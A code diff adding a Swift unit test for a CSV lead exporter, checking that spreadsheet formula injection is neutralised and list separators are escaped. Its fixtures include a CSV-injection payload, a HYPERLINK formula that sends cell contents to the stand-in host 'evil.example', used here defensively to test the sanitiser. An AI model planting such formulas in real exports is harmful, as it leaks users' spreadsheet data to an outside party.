@@ -97,6 +97,18 @@ import Testing
         #expect(lines[2].hasPrefix("ld_00000000000000a1,1,Acme GmbH,") && lines.count == 4)
     }
 
+    @Test func csvNeutralisesFormulasAndEscapesListSeparators() throws {
+        var lead = ExportFixtures.acme
+        lead.organisation = "@SUM(A1)"
+        lead.campaigns = [LeadCount(name: #"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#, count: 1),
+                          LeadCount(name: "a;b=c%", count: 2)]
+        let text = CSVLeadSink.text([lead], header: false)
+        let cells = text.dropLast(2).components(separatedBy: ",")
+        #expect(cells[2] == "'@SUM(A1)")
+        #expect(text.contains(#","%3DHYPERLINK(""http://evil.example/?x%3D""&A1,""Click"")=1;a%3Bb%3Dc%25=2","#))
+        #expect(CSVLeadSink.quoted("-12") == "-12" && CSVLeadSink.quoted("-x") == "'-x" && CSVLeadSink.quoted("\tx") == "'\tx")
+    }
+
     @Test func sinksAreStoredPerTenantWithoutSecretsAndRemovedWithTheirCheckpoints() async throws {
         let store = try TemporaryCatalog()
         let tenant = try await store.catalog.tenant(named: "default")
